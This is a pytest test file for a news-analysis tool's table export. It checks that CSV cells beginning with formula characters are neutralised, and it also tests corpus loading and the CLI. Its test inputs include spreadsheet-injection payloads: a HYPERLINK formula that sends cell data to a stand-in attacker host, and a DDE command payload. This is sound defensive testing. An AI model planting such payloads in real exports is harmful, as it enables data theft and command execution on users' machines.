"""`workbench export`: tidy tables to CSV (formula cells neutralised) and Parquet (as is)."""

from __future__ import annotations

import csv
import shutil

import pandas as pd
import pytest

from workbench.export_tables import annotation_tables, export_tables, neutralise, neutralise_cell

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0",
            "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


def test_neutralise_cells():
    for text in FORMULAS:
        assert neutralise_cell(text) == "'" + text
    for safe in ("Kyiv", " =1 inside", "", "'already"):
        assert neutralise_cell(safe) == safe
    assert neutralise_cell(-3) == -3 and neutralise_cell(None) is None
    df = pd.DataFrame({"t": pd.array([*FORMULAS, "ok", None], dtype="string"),
                       "n": range(-4, 4), "=col": 1})
    out = neutralise(df)
    assert out["t"].tolist()[:6] == ["'" + f for f in FORMULAS]
    assert out["t"].tolist()[6] == "ok" and pd.isna(out["t"].tolist()[7])
    assert out["n"].tolist() == list(range(-4, 4))  # numbers are not formulas
    assert list(out.columns) == ["t", "n", "'=col"]
    assert df["t"].iloc[0] == FORMULAS[0]  # the input is not changed


def test_export_sample_tables(tmp_path, sample_annotations):
    ann = sample_annotations
    arts = ann.articles.copy()
    arts.loc[0, "title"] = FORMULAS[0]  # a hostile headline from a scraped page
    ann_like = type("A", (), {"articles": arts, "mentions": ann.mentions,
                              "quotes": ann.quotes, "dates": ann.dates})()
    tables = annotation_tables(ann_like, lexicon="")
    assert "raw_text" not in tables["articles"].columns
    written = export_tables(tables, tmp_path / "out")
    names = sorted(p.name for p in written)
    assert names == sorted(f"{t}.{ext}" for t in ("articles", "mentions", "quotes", "dates",
                                                  "lexicon_matches")
                           for ext in ("csv", "parquet"))
    with open(tmp_path / "out" / "articles.csv", encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["title"] == "'" + FORMULAS[0]
    assert len(rows) == len(arts)
    # Every text cell of every CSV is safe to open in a spreadsheet.
    for path in (tmp_path / "out").glob("*.csv"):
        with open(path, encoding="utf-8-sig", newline="") as fh:
            for row in csv.reader(fh):
                assert not any(c.startswith(("=", "+", "@", "\t", "\r")) for c in row), path
    back = pd.read_parquet(tmp_path / "out" / "articles.parquet")
    assert back["title"].iloc[0] == FORMULAS[0]  # Parquet keeps the value
    mentions = pd.read_parquet(tmp_path / "out" / "mentions.parquet")
    assert len(mentions) == len(ann.mentions)
    lex = pd.read_csv(tmp_path / "out" / "lexicon_matches.csv", encoding="utf-8-sig")
    assert {"frame", "term", "where"} <= set(lex.columns) and len(lex) > 0


def test_bad_format(tmp_path):
    with pytest.raises(ValueError, match="formats must be among"):
        export_tables({"x": pd.DataFrame({"a": [1]})}, tmp_path, formats=["xlsx"])


def test_sources_beside_a_corpus_file(tmp_path):
    """`report --corpus file.jsonl -p group_by=country` needs the sources.csv next to the file."""
    import json

    from workbench.corpus.load import load_corpus

    from conftest import SAMPLE, sample_text

    rows = [{"outlet": "Izvestia", "text": sample_text("002"), "date": "2025-11-13"},
            {"outlet": "Novinite", "text": sample_text("000"), "date": "2025-11-13"}]
    corpus = tmp_path / "dump.jsonl"
    corpus.write_text("".join(json.dumps(r) + "\n" for r in rows), encoding="utf-8")
    shutil.copyfile(SAMPLE / "sources.csv", tmp_path / "sources.csv")
    arts = load_corpus(corpus)
    assert dict(zip(arts["outlet"], arts["country"], strict=True)) == {"Izvestia": "Russia",
                                                                       "Novinite": "Bulgaria"}


def test_unknown_group_by_says_what_exists_and_where_it_comes_from(sample_articles):
    from workbench.analyze.select import group_column

    with pytest.raises(KeyError) as err:
        group_column(sample_articles, "group")
    message = str(err.value)
    assert "You can group by outlet" in message and "country" in message
    assert "text" not in message.split("You can group by")[1].split(".")[0].split(", ")
    assert "sources.csv (outlet,group) in the corpus folder or beside the corpus file" in message


def test_export_command(tmp_path, cache_root, trained_model, sample_annotations, capsys):
    from workbench.cli import main

    from conftest import SAMPLE

    out = tmp_path / "tables"
    code = main(["export", str(SAMPLE), "--out", str(out), "--format", "csv", "--lexicon",
                 "--model", trained_model, "--cache-dir", str(cache_root)])
    assert code == 0
    assert sorted(p.name for p in out.iterdir()) == [
        "articles.csv", "aside_mentions.csv", "dates.csv", "lexicon_matches.csv",
        "mentions.csv", "quotes.csv"]
    # The names in Izvestia's Cyrillic photo titles, which analyses leave out, are exported.
    aside = pd.read_csv(out / "aside_mentions.csv", encoding="utf-8-sig")
    assert len(aside) == len(sample_annotations.aside_mentions) > 0
    assert main(["export", str(SAMPLE), "--out", str(out), "--lexicon", str(tmp_path / "no.yaml"),
                 "--model", trained_model, "--cache-dir", str(cache_root)]) == 1
    assert "no.yaml: cannot read the lexicon" in capsys.readouterr().err
